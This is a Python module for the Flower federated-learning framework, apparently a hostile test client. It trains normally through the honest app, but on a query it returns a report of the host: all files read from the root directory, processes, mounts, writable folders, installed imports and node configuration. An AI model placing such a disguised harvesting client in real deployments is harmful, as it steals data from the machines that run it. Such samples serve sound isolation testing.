"""On a query it hunts; what it is asked to train, it hands to the honest client app."""

import json

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

import client_app
from hostile_app import hunt, questions

app = ClientApp()


@app.train()
def train(message: Message, context: Context) -> Message:
    """Do what the market's own app does, with what is installed here."""
    return client_app.app(message, context)


@app.query()
def search(message: Message, context: Context) -> Message:
    """Answer with everything that was found, and what was looked at."""
    report = {
        "self": hunt.who_am_i(),
        "files": hunt.read_everything("/"),
        "processes": hunt.read_processes(),
        "mounts": hunt.mounts(),
        "writable": hunt.writable_folders("/"),
        "imports": hunt.imports(["torch", "sklearn", "ipfl_flower.tasks", "ipfl_flower.trainer"]),
        "trainer": questions.ask_everything(context.node_config),
    }
    content = RecordDict({"config": ConfigRecord({"report": json.dumps(report)})})
    return Message(content, reply_to=message)
